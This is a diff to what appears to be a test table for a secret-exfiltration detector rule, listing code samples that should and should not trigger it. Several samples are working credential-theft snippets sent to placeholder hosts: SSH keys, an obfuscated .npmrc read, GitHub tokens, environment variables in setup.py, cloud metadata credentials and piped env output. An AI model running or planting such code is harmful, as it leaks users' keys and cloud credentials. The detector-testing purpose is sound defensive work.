@@ -220,6 +220,11 @@ const rows: readonly Row[] = [
       'require("fs").readFile(require("os").homedir() + "/.ssh/id_rsa", (e, k) => fetch("//h", { body: k }))\n',
       'require("fs").readFile("a.txt", (e, k) => fetch("//h", { body: k }))\n',
     ],
+    // A name in pieces, of a folder that is handed over.
+    [
+      'const fs = require("fs"), path = require("path")\nconst read = (dir) => fs.readFileSync(path.join(dir, "." + ["rc", "npm"].reverse().join("")), "latin1").split("\\n")\nconst all = read(require("os").homedir())\nrequire("net").connect(1, "h.example.org").on("error", () => {}).end(all.join("\\n"))\n',
+      'const fs = require("fs"), path = require("path")\nconst read = (dir) => fs.readFileSync(path.join(dir, "." + ["rc", "nvm"].reverse().join("")), "latin1").split("\\n")\nconst all = read(require("os").homedir())\nrequire("net").connect(1, "h.example.org").on("error", () => {}).end(all.join("\\n"))\n',
+    ],
     // A token goes back to whoever gave it.
     [
       'const t = require("child_process").execSync("gh auth token")\nfetch("https://h.example.org/", { body: t })\n',
@@ -235,6 +240,13 @@ const rows: readonly Row[] = [
     fires: { "setup.py": "import os, requests\nrequests.post('//h', json=dict(os.environ))\n" },
     silent: { "setup.py": "import os, requests\nrequests.post('//h', json=os.environ['A_TOKEN'])\n" },
   },
+  ...[
+    // Keys that a cloud gives a machine, to somebody else and to that cloud.
+    [
+      "import ipaddress, requests\nk = requests.get(f'http://{ipaddress.ip_address(0xA9FEA9FE)}/latest/meta-data/iam/security-credentials/a').text\nrequests.post('https://h.example.org/', data=k)\n",
+      "import requests\nk = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/a').json()\nrequests.post('https://sts.amazonaws.com/', headers={'a': k['Token']})\n",
+    ],
+  ].map(([fires = "", silent = ""]): Row => ({ rule: "flow/secret-leaves", fires: { "setup.py": fires }, silent: { "setup.py": silent } })),
   {
     rule: "flow/secret-leaves",
     fires: { configure: "#!/bin/sh\nenv | base64 | curl -d @- http://h.example.org\n" },
